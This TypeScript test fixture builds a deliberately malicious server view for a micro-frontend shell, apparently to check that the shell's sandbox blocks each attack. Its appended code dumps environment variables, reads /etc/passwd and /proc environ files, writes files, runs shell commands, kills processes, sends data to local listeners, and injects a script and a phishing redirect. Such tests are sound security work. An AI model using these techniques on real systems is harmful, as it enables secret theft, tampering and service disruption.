/**
 * A malicious server view for the lessons remote, as a team that turned hostile would ship it:
 * the built view as it was, with code appended that wraps its `loadRemoteViews` (the API the
 * shell's region worker calls) so the lesson page still draws, and on `?attack=<name>` also
 * tries that attack and draws what came of it in `<p data-attack="<name>">` inside its region,
 * so a test reads each outcome in the page the shell serves. `script` and `refresh` draw markup
 * the shell's region check must refuse; `loop` never returns. The attacks are those of issue 42
 * (serve/src/render/hostileRemote.test.ts tries them against fakes).
 */
export interface HostileTargets {
  /** a file of the test's own outside every release: a stand-in for the server's secrets */
  secretFile: string;
  /** a file through npm's workspace links (node_modules/mf-contact → the enquiry server) */
  npmLinkFile: string;
  /** where it tries to write */
  writtenFile: string;
  /** the shell server's process id, whose /proc/<pid>/environ holds its secrets */
  serverPid: number;
  /** the shell's own origin: a request to it from the worker would bypass every check */
  shellUrl: string;
  /** a TCP and a UDP port on 127.0.0.1, and a unix socket, each counting what reaches it */
  tcpPort: number;
  udpPort: number;
  socketPath: string;
  /** a content file of another remote's live release */
  otherReleaseFile: string;
  /** its own server view's path in its release */
  ownViewFile: string;
}

/** The code appended to the built view; the settings are inlined as JSON. */
const hostileWrapper = (targets: HostileTargets) => `
;(function hostileTeam(targets) {
  const original = module.exports.loadRemoteViews;
  module.exports.loadRemoteViews = function loadRemoteViews(publicPath) {
    const views = original(publicPath);
    const React = require('react');
    const runtime = require('react/jsx-runtime');
    const { jsx, jsxs, Fragment } = runtime;
    const { useLocation } = require('react-router');
    const { ServerContentContext } = require('@harmoni/shared');
    const LessonPage = views['./LessonPage'].default;
    const builtin = (name) => process.getBuiltinModule(name);
    const code = (how) => (error) =>
      how + ':' + ((error && (error.code || (error.cause && error.cause.code))) || String(error));
    const attempt = (how, run) => { try { return run(); } catch (error) { return code(how)(error); } };
    const readFile = (file) => attempt('fs', () => 'read:' + builtin('node:fs').readFileSync(file, 'utf8').slice(0, 300));
    const connect = (...where) => new Promise((resolve) => {
      const socket = builtin('node:net').connect(...where);
      socket.on('connect', () => { socket.destroy(); resolve('connected'); });
      socket.on('error', (error) => resolve(code('net')(error)));
    });
    const get = (url) => fetch(url).then((answer) => 'fetched ' + answer.status, code('fetch'));
    const reads = {
      readOtherRelease: targets.otherReleaseFile,
      readOwnCode: publicPath + targets.ownViewFile,
      readOutside: 'http://127.0.0.1:' + targets.tcpPort + '/content.txt',
      readClimbing: publicPath + 'assets/docs/%2e%2e/%2e%2e/' + targets.ownViewFile,
      readContent: publicPath + 'assets/docs/lessons/piano.txt',
    };
    const attacks = {
      env: () => 'env:' + JSON.stringify(process.env),
      secretFile: () => readFile(targets.secretFile),
      npmLink: () => readFile(targets.npmLinkFile),
      passwd: () => readFile('/etc/passwd'),
      serverEnviron: () => readFile('/proc/' + targets.serverPid + '/environ'),
      parentEnviron: () => readFile('/proc/' + process.ppid + '/environ'),
      write: () => attempt('fs', () => { builtin('node:fs').writeFileSync(targets.writtenFile, 'owned'); return 'written'; }),
      connect: () => connect(targets.tcpPort, '127.0.0.1'),
      unixSocket: () => connect(targets.socketPath),
      fetchListener: () => get('http://127.0.0.1:' + targets.tcpPort + '/steal'),
      fetchShell: () => get(targets.shellUrl + '/about'),
      udp: () => attempt('udp', () => new Promise((resolve) => {
        const socket = builtin('node:dgram').createSocket('udp4');
        socket.on('error', (error) => resolve(code('udp')(error)));
        socket.send('steal', targets.udpPort, '127.0.0.1', (error) => {
          socket.close();
          resolve(error ? code('udp')(error) : 'udp:sent');
        });
      })),
      spawn: () => attempt('spawn', () => { builtin('node:child_process').execSync('id'); return 'spawned'; }),
      worker: () => attempt('worker', () => { new (builtin('node:worker_threads').Worker)('1', { eval: true }); return 'started'; }),
      killServer: () => attempt('kill', () => { process.kill(targets.serverPid, 'SIGKILL'); return 'sent to ' + targets.serverPid; }),
      killParent: () => attempt('kill', () => { const parent = process.ppid; process.kill(parent, 'SIGKILL'); return 'sent to ' + parent; }),
      // what it shares with other views in its process: the JSX runtime, IPC, built-ins
      patch: () => {
        const changed = (props) => props && typeof props.children === 'string'
          ? Object.assign({}, props, { children: props.children.replace(/[0-9]/g, '0') }) : props;
        const { jsx: ownJsx, jsxs: ownJsxs } = runtime;
        runtime.jsx = (type, props, key) => ownJsx(type, changed(props), key);
        runtime.jsxs = (type, props, key) => ownJsxs(type, changed(props), key);
        const forged = { html: '<meta http-equiv="refresh" content="0;url=https://phish.example/">', facts: { jsonLd: {}, status: 'found', head: { title: 'Owned' } }, views: [] };
        const send = process.send;
        process.send = (message, ...rest) => send.call(process, Object.assign({}, message, { result: forged }), ...rest);
        return 'patched';
      },
    };
    // one outcome per attack and render (React asks again once what it waits for is there)
    const outcomes = new WeakMap();
    const outcomeOf = (server, name) => {
      const ofRender = outcomes.get(server) || new Map();
      outcomes.set(server, ofRender);
      if (!ofRender.has(name)) {
        ofRender.set(name, reads[name]
          ? server.read(reads[name]).then((read) => name + ':' + read.status)
          : Promise.resolve().then(() => attacks[name] ? attacks[name]() : 'no such attack'));
      }
      return ofRender.get(name);
    };
    const drawn = (...extra) => jsxs(Fragment, { children: [jsx(LessonPage, {}), ...extra] });
    const injected = (html) => drawn(jsx('div', { dangerouslySetInnerHTML: { __html: html } }));
    function HostileLessonPage() {
      const name = new URLSearchParams(useLocation().search).get('attack');
      const server = React.useContext(ServerContentContext);
      if (!name || !server) return jsx(LessonPage, {});
      if (name === 'loop') for (;;) {}
      if (name === 'script') return injected('<script src="' + publicPath + 'static/js/owned.js"></script>');
      if (name === 'refresh') return injected('<meta http-equiv="refresh" content="0;url=https://phish.example/">');
      const outcome = String(React.use(outcomeOf(server, name)));
      return drawn(jsx('p', { 'data-attack': name, children: outcome }));
    }
    return Object.assign({}, views, {
      './LessonPage': Object.assign({}, views['./LessonPage'], { default: HostileLessonPage }),
    });
  };
})(${JSON.stringify(targets)});
`;

/** The built view's code with the hostile team's code appended. */
export const hostileView = (builtView: string, targets: HostileTargets): string =>
  `${builtView}\n${hostileWrapper(targets)}`;
